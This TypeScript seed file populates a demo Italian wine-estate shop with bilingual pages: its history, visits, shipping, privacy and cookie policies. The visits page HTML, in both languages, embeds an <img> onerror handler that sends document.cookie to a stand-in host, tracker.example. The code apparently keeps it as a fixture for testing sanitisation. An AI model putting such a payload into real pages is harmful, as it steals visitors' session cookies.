import type { Executor } from "../db/client.js";
import { customComponents, pages } from "../db/schema/index.js";
import { DEMO } from "./clubs.js";

const ESTATE = DEMO.estate.id;
const MILL = DEMO.invitational.id;

/** Custom pages and home components of the demo clubs, in Italian and English. */
export async function seedContent(db: Executor) {
  await db.insert(customComponents).values([
    {
      id: "castelvecchio-welcome",
      clubId: ESTATE,
      kind: "html",
      title: { it: "Benvenuti in cantina", en: "Welcome to the cellar" },
      html: {
        it: `<p>Siamo una famiglia di vignaioli a Radda in Chianti. Sui nostri <strong>18 ettari</strong> coltiviamo Sangiovese, Canaiolo e Colorino, vendemmiati a mano e affinati in botti di rovere di Slavonia.</p>
<ul class="welcome-points">
  <li>Spedizione gratuita in Italia sopra i 150&nbsp;€</li>
  <li>Un punto cantina per ogni euro speso</li>
  <li>Anteprime riservate alle nuove annate</li>
</ul>`,
        en: `<p>We are a family of winegrowers in Radda in Chianti. On our <strong>18 hectares</strong> we grow Sangiovese, Canaiolo and Colorino, picked by hand and aged in Slavonian oak casks.</p>
<ul class="welcome-points">
  <li>Free shipping in Italy above €150</li>
  <li>One cellar point for every euro you spend</li>
  <li>Members-only previews of new vintages</li>
</ul>`,
      },
      css: ".welcome-points { list-style: none; padding: 0; display: grid; gap: .5rem; }\n.welcome-points li { display: flex; gap: .6rem; align-items: baseline; }\n.welcome-points li::before { content: ''; flex: none; width: .55rem; height: .55rem; border-radius: 50%; background: currentColor; opacity: .55; transform: translateY(-.1rem); }",
      image: null,
      link: null,
    },
    {
      id: "castelvecchio-visit",
      clubId: ESTATE,
      kind: "banner",
      title: { it: "Vieni a trovarci", en: "Come and visit us" },
      html: {
        it: '<p>Visite guidate e degustazioni in cantina dal martedì alla domenica. <a href="/it/pages/visite">Prenota la tua visita</a>.</p>',
        en: '<p>Guided tours and tastings in the cellar from Tuesday to Sunday. <a href="/en/pages/visite">Book your visit</a>.</p>',
      },
      css: null,
      image: {
        url: "/media/banner-visit-castelvecchio.svg",
        alt: { it: "Le botti della cantina di Castelvecchio", en: "The casks in the Castelvecchio cellar" },
        width: 1200,
        height: 500,
      },
      link: null,
    },
  ]);

  await db.insert(pages).values([
    {
      id: "page_cv_story",
      clubId: ESTATE,
      name: "la-nostra-storia",
      title: { it: "La nostra storia", en: "Our story" },
      description: {
        it: "Tre generazioni di vignaioli sulle colline di Radda in Chianti.",
        en: "Three generations of winegrowers on the hills of Radda in Chianti.",
      },
      html: {
        it: `<h2>Dal 1962 a Radda in Chianti</h2>
<p>Nonno Alberto comprò il podere di Castelvecchio nel 1962, quando le vigne erano ancora promiscue con olivi e grano. Piantò il primo Sangiovese sul versante sud, a 520 metri, dove ancora oggi nasce la nostra Riserva.</p>
<p>Negli anni Novanta la cantina è passata a Marta e Luca, che hanno convertito i vigneti al biologico e riportato in uso le vecchie botti grandi.</p>
<h3>Come lavoriamo</h3>
<ul>
  <li>Vendemmia a mano, in cassette da 15 kg</li>
  <li>Fermentazioni spontanee in cemento</li>
  <li>Affinamento in botti di rovere di Slavonia da 25 ettolitri</li>
</ul>`,
        en: `<h2>In Radda in Chianti since 1962</h2>
<p>Grandfather Alberto bought the Castelvecchio farm in 1962, when vines still grew among olive trees and wheat. He planted the first Sangiovese on the south slope, at 520 metres, where our Riserva still comes from today.</p>
<p>In the nineties the cellar passed to Marta and Luca, who converted the vineyards to organic farming and brought the old large casks back into use.</p>
<h3>How we work</h3>
<ul>
  <li>Hand harvest, in 15 kg crates</li>
  <li>Spontaneous fermentation in concrete</li>
  <li>Ageing in 25-hectolitre Slavonian oak casks</li>
</ul>`,
      },
      componentIds: [],
      position: 0,
    },
    {
      id: "page_cv_visits",
      clubId: ESTATE,
      name: "visite",
      title: { it: "Visite e degustazioni", en: "Visits and tastings" },
      description: {
        it: "Prenota una visita guidata della cantina con degustazione.",
        en: "Book a guided tour of the cellar with a tasting.",
      },
      // Stored as the club's editor saved it, pasted tracking snippet included: answers never carry it.
      html: {
        it: `<h2>Visite in cantina</h2>
<p>Ti accompagniamo tra i vigneti e nella cantina storica, poi degustiamo insieme quattro vini con pecorino e olio della tenuta.</p>
<img src="/media/banner-visit-castelvecchio.svg" alt="Le botti della cantina" onerror="fetch('https://tracker.example/p?c='+document.cookie)">
<table>
  <thead><tr><th scope="col">Visita</th><th scope="col">Durata</th><th scope="col">Prezzo</th></tr></thead>
  <tbody>
    <tr><td>Classica, 4 vini</td><td>90 minuti</td><td>25 € a persona</td></tr>
    <tr><td>Riserva e annate storiche</td><td>2 ore</td><td>45 € a persona</td></tr>
  </tbody>
</table>
<p>Da martedì a domenica alle 10:30 e alle 16:00. Prenota scrivendo a <a href="mailto:visite@castelvecchio.example">visite@castelvecchio.example</a> o chiamando il <a href="tel:+390577738021">0577 738 021</a>.</p>
<script>window.dataLayer = window.dataLayer || []; dataLayer.push({ event: "visit_page" });</script>`,
        en: `<h2>Cellar visits</h2>
<p>We walk you through the vineyards and the historic cellar, then taste four wines together with the estate's pecorino and olive oil.</p>
<img src="/media/banner-visit-castelvecchio.svg" alt="The casks in the cellar" onerror="fetch('https://tracker.example/p?c='+document.cookie)">
<table>
  <thead><tr><th scope="col">Visit</th><th scope="col">Length</th><th scope="col">Price</th></tr></thead>
  <tbody>
    <tr><td>Classic, 4 wines</td><td>90 minutes</td><td>€25 per person</td></tr>
    <tr><td>Riserva and old vintages</td><td>2 hours</td><td>€45 per person</td></tr>
  </tbody>
</table>
<p>Tuesday to Sunday at 10:30 and 16:00. Book by writing to <a href="mailto:visite@castelvecchio.example">visite@castelvecchio.example</a> or calling <a href="tel:+390577738021">+39 0577 738 021</a>.</p>
<script>window.dataLayer = window.dataLayer || []; dataLayer.push({ event: "visit_page" });</script>`,
      },
      componentIds: ["castelvecchio-visit"],
      position: 1,
    },
    {
      id: "page_cv_shipping",
      clubId: ESTATE,
      name: "spedizioni",
      title: { it: "Spedizioni", en: "Shipping" },
      description: {
        it: "Tempi e costi di spedizione, ritiro in cantina.",
        en: "Shipping times and costs, pickup at the cellar.",
      },
      html: {
        it: `<h2>Come spediamo</h2>
<p>Imballiamo ogni bottiglia in cartoni certificati per il trasporto del vino e affidiamo i pacchi a corrieri espressi. In estate, con temperature sopra i 30 °C, possiamo rimandare la spedizione di qualche giorno per proteggere il vino.</p>
<ul>
  <li><strong>Italia:</strong> 2–4 giorni lavorativi, 9,90 €, gratuita sopra i 150 €</li>
  <li><strong>Consegna in 24 ore (Italia):</strong> 19,00 € per ordini entro le 12</li>
  <li><strong>Europa</strong> (Francia, Germania, Austria, Benelux e Spagna): 3–6 giorni lavorativi, 24,90 €</li>
  <li><strong>Ritiro in cantina:</strong> gratuito, dal martedì alla domenica</li>
</ul>
<p>Riceverai un'email con il codice di tracciamento appena il pacco parte.</p>`,
        en: `<h2>How we ship</h2>
<p>We pack every bottle in boxes certified for shipping wine and hand the parcels to express couriers. In summer, above 30 °C, we may delay shipping by a few days to protect the wine.</p>
<ul>
  <li><strong>Italy:</strong> 2–4 working days, €9.90, free above €150</li>
  <li><strong>Next-day delivery (Italy):</strong> €19.00 for orders placed by noon</li>
  <li><strong>Europe</strong> (France, Germany, Austria, Benelux and Spain): 3–6 working days, €24.90</li>
  <li><strong>Pickup at the cellar:</strong> free, Tuesday to Sunday</li>
</ul>
<p>You will get an email with the tracking code as soon as the parcel leaves.</p>`,
      },
      componentIds: [],
      position: 2,
    },
    privacyPage(
      "page_cv_privacy",
      ESTATE,
      "Tenuta Castelvecchio Società Agricola S.r.l.",
      "privacy@castelvecchio.example",
      3,
    ),
    cookiePage("page_cv_cookie", ESTATE, 4),
    privacyPage("page_fg_privacy", MILL, "Frantoio del Garda S.r.l.", "privacy@frantoiodelgarda.example", 0),
    cookiePage("page_fg_cookie", MILL, 1),
  ]);
}

/** The cookie policy the consent banner and the footer link to (/{lang}/pages/cookie). */
function cookiePage(id: string, clubId: string, position: number) {
  return {
    id,
    clubId,
    name: "cookie",
    title: { it: "Informativa sui cookie", en: "Cookie policy" },
    description: {
      it: "Quali cookie usiamo e come cambiare la tua scelta.",
      en: "Which cookies we use and how to change your choice.",
    },
    html: {
      it: `<h2>Cookie tecnici</h2>
<p>Sempre attivi, servono al negozio per funzionare: sessione, carrello, lingua e la tua scelta sui cookie. Non richiedono consenso.</p>
<h2>Cookie statistici e di marketing</h2>
<p>Li usiamo solo se li accetti dal banner («Accetta tutti»). Con «Solo necessari», o chiudendo il banner, restano spenti.</p>
<h2>Cambiare la scelta</h2>
<p>In ogni momento, dal link «Impostazioni cookie» in fondo a ogni pagina.</p>`,
      en: `<h2>Technical cookies</h2>
<p>Always on, the shop needs them to work: session, cart, language and your cookie choice. They need no consent.</p>
<h2>Statistics and marketing cookies</h2>
<p>We use them only if you accept them in the banner ("Accept all"). With "Only necessary", or by closing the banner, they stay off.</p>
<h2>Changing your choice</h2>
<p>At any time, from the "Cookie settings" link at the bottom of every page.</p>`,
    },
    componentIds: [],
    position,
  };
}

/** The privacy policy the footer links to (/{lang}/pages/privacy). */
function privacyPage(id: string, clubId: string, controller: string, email: string, position: number) {
  return {
    id,
    clubId,
    name: "privacy",
    title: { it: "Informativa privacy", en: "Privacy policy" },
    description: {
      it: "Come trattiamo i tuoi dati personali.",
      en: "How we handle your personal data.",
    },
    html: {
      it: `<h2>Titolare del trattamento</h2>
<p>${controller}. Per qualsiasi richiesta sui tuoi dati scrivi a <a href="mailto:${email}">${email}</a>.</p>
<h2>Quali dati trattiamo</h2>
<p>Nome, indirizzi, email e telefono che ci dai per registrarti e ordinare; lo storico degli ordini e i punti fedeltà. I dati della carta restano al fornitore dei pagamenti: non li vediamo né li conserviamo.</p>
<h2>Cookie</h2>
<p>Quali cookie usiamo e come cambiare la tua scelta è spiegato nella <a href="/it/pages/cookie">cookie policy</a>.</p>
<h2>I tuoi diritti</h2>
<p>Puoi chiedere accesso, rettifica, cancellazione e portabilità dei tuoi dati, e proporre reclamo al Garante per la protezione dei dati personali.</p>`,
      en: `<h2>Data controller</h2>
<p>${controller}. For any request about your data write to <a href="mailto:${email}">${email}</a>.</p>
<h2>What data we process</h2>
<p>The name, addresses, email and phone you give us to sign up and order; your order history and fidelity points. Card details stay with the payment provider: we never see or keep them.</p>
<h2>Cookies</h2>
<p>Which cookies we use and how to change your choice is explained in the <a href="/en/pages/cookie">cookie policy</a>.</p>
<h2>Your rights</h2>
<p>You may ask to access, correct, erase and port your data, and lodge a complaint with the Italian Data Protection Authority (Garante).</p>`,
    },
    componentIds: [],
    position,
  };
}
